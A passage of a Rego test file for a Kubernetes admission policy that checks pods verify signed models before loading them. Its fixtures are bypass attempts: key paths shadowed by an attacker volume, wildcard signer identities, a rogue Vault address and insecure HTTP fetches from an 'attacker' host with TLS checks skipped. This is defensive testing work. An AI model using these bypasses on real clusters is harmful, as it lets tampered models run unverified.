/attacker/"],"image":"busybox","name":"fill","volumeMounts":[{"mountPath":"/attacker","name":"attacker"}]},{"args":["--key=/attacker","s3://models/m.tgz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"},{"mountPath":"/attacker","name":"attacker","readOnly":true}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"emptyDir":{},"name":"attacker"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod key-path-shadowed
test_corpus_params_v3_key_path_shadowed if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008","aegis.dev/render-error":"mounts volume attacker at /etc/cosign, where it reads its keys"},"name":"key-path-shadowed"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/keys","name":"key","readOnly":true},{"mountPath":"/models","name":"model"},{"mountPath":"/etc/cosign","name":"attacker","readOnly":true}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"},{"configMap":{"name":"my-keys"},"name":"attacker"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod identity-match-all
test_corpus_params_v3_identity_match_all if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007 AEGIS007 AEGIS007 AEGIS008 AEGIS008","aegis.dev/render-error":"env AEGIS_CERTIFICATE_IDENTITY_REGEXP is not a keyless identity the constraint pins"},"name":"identity-match-all"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUSTED_ROOT","value":"/usr/share/aegis/sigstore/prod.json"},{"name":"AEGIS_CERTIFICATE_IDENTITY_REGEXP","value":".*"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER_REGEXP","value":".*"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"], ["", "AEGIS007"], ["", "AEGIS007"], ["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod identity-not-pinned
test_corpus_params_v3_identity_not_pinned if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007","aegis.dev/render-error":"env AEGIS_CERTIFICATE_IDENTITY is not a keyless identity the constraint pins"},"name":"identity-not-pinned"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"},{"name":"AEGIS_CERTIFICATE_IDENTITY","value":"https://github.com/attacker/x/.github/workflows/r.yml@refs/heads/main"},{"name":"AEGIS_CERTIFICATE_OIDC_ISSUER","value":"https://token.actions.githubusercontent.com"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"]}
}

# params-v3 / params-v3: Pod own-vault
test_corpus_params_v3_own_vault if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007","aegis.dev/render-error":"env VAULT_ADDR is not a Vault address the constraint pins"},"name":"own-vault"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"},{"name":"VAULT_ADDR","value":"http://vault.attacker.svc:8200"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"]}
}

# params-v3 / params-v3: Pod pinned-vault
test_corpus_params_v3_pinned_vault if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":""},"name":"pinned-vault"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"},{"name":"VAULT_ADDR","value":"https://vault.platform.svc:8200"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == set()
}

# params-v3 / params-v3: Pod trust-from-configmap
test_corpus_params_v3_trust_from_configmap if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007 AEGIS008","aegis.dev/render-error":"env AEGIS_TRUST_POLICY comes from valueFrom"},"name":"trust-from-configmap"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","valueFrom":{"configMapKeyRef":{"key":"trust","name":"pins"}}}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod trust-other-pins
test_corpus_params_v3_trust_other_pins if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007"},"name":"trust-other-pins"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keys\": [\"sha256:0000000000000000000000000000000000000000000000000000000000000000\"]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"]}
}

# params-v3 / params-v3: Pod trust-twice
test_corpus_params_v3_trust_twice if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007"},"name":"trust-twice"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"},{"name":"AEGIS_TRUST_POLICY","value":"{}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"]}
}

# params-v3 / params-v3: Pod trust-not-json
test_corpus_params_v3_trust_not_json if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS007"},"name":"trust-not-json"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"keys: all"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS007"]}
}

# params-v3 / params-v3: Pod version
test_corpus_params_v3_version if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"argument --version is not allowed on a locked verifier"},"name":"version"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--version"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod command-override
test_corpus_params_v3_command_override if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008"},"name":"command-override"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["s3://models/resnet.tar.gz","/models"],"command":["sh","-c","true"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod args-expand
test_corpus_params_v3_args_expand if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008"},"name":"args-expand"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["$(ARTIFACT)","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"envFrom":[{"secretRef":{"name":"s3"}}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod insecure-flags
test_corpus_params_v3_insecure_flags if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"argument --allow-insecure-http is not allowed on a locked verifier"},"name":"insecure-flags"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--allow-insecure-http","http://attacker/m.tgz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"},{"name":"AEGIS_INSECURE_SKIP_TLS_VERIFY","value":"true"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod flag-two-tokens
test_corpus_params_v3_flag_two_tokens if {
	vs := violation with input as {"parameters":{"allowKeylessVerification":true,"allowVaultVerification":true,"lockVerifier":true,"requireModelMount":true,"requireVerifiedModel":true,"sealModelVolume":true,"trust":{"keyless":[{"issuer":"https://token.actions.githubusercontent.com","subject":"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main"}],"keys":["sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b"],"vault":[{"address":"https://vault.platform.svc:8200","key":"models"}]},"verifiedStorageUriPrefixes":["s3://prod-models/"],"verifierImages":["localhost/aegis/verify-and-fetch"]},"review":{"kind":{"group":"","kind":"Pod","version":"v1"},"object":{"apiVersion":"v1","kind":"Pod","metadata":{"annotations":{"aegis.dev/expect":"AEGIS008 AEGIS008","aegis.dev/render-error":"argument --key is not allowed on a locked verifier"},"name":"flag-two-tokens"},"spec":{"containers":[{"args":["tritonserver","--model-repository=/models"],"image":"nvcr.io/nvidia/tritonserver:24.08-py3","name":"server","volumeMounts":[{"mountPath":"/models","name":"model","readOnly":true}]}],"initContainers":[{"args":["--key","/etc/cosign","s3://models/m.tgz","/models"],"env":[{"name":"AEGIS_TRUST_POLICY","value":"{\"keyless\":[{\"issuer\":\"https://token.actions.githubusercontent.com\",\"subject\":\"https://github.com/org/models/.github/workflows/release.yml@refs/heads/main\"}],\"keys\":[\"sha256:3f0c6c1bd1b45ea7c8f1a4b9a0b8d34d4b2f3c6e1a9d8e7f6a5b4c3d2e1f0a9b\"],\"vault\":[{\"address\":\"https://vault.platform.svc:8200\",\"key\":\"models\"}]}"}],"image":"localhost/aegis/verify-and-fetch:0.1.0","name":"verify-and-fetch","volumeMounts":[{"mountPath":"/etc/cosign","name":"key","readOnly":true},{"mountPath":"/models","name":"model"}]}],"volumes":[{"name":"key","secret":{"secretName":"cosign-public-key"}},{"emptyDir":{},"name":"model"}]}}}}
	corpus_ids(vs) == {["", "AEGIS008"], ["", "AEGIS008"]}
}

# params-v3 / params-v3: Pod dest-elsewhere
test_corpus_params_v3_dest_elsewhere if {
